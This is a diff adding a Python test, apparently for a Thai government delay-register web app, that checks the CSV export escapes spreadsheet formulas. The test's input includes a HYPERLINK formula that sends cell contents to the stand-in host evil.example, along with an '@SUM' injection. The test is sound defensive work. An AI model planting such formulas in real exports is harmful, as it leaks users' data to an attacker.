@@ -303,3 +303,18 @@ def test_the_applicant_receives_each_notice_by_email_with_its_letter_attached(ap
     assert attachment.get_content_type() == "application/pdf"
     printed = read_pdf(attachment.get_content())
     assert nfkc("นายสมปอง รอคอย") in printed.text and nfkc("ฉบับที่ ๑") in printed.text
+
+
+def test_the_register_csv_never_hands_a_spreadsheet_a_formula(app, client, login, demo):
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"ดูรายละเอียด")'
+    with time_machine.travel(bkk(2027, 2, 1, 10, 0)):
+        response = _record(client, login, demo, reference="@SUM(1+1)", reason=formula)
+        assert response.status_code == 302, response.get_data(as_text=True)[:1000]
+        login("opdc")
+        exported = client.get("/delays/register.csv")
+    assert exported.status_code == 200 and exported.mimetype == "text/csv"
+    rows = list(csv.reader(io.StringIO(exported.get_data(as_text=True).lstrip("\ufeff"))))
+    [row] = [row for row in rows[1:] if row[2].endswith("@SUM(1+1)")]
+    assert row[2] == "'@SUM(1+1)" and row[7] == "'" + formula
+    assert rows[0][0] == "issued_at" and row[0][:4].isdigit()  # plain values are left as they are
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for line in rows for cell in line)
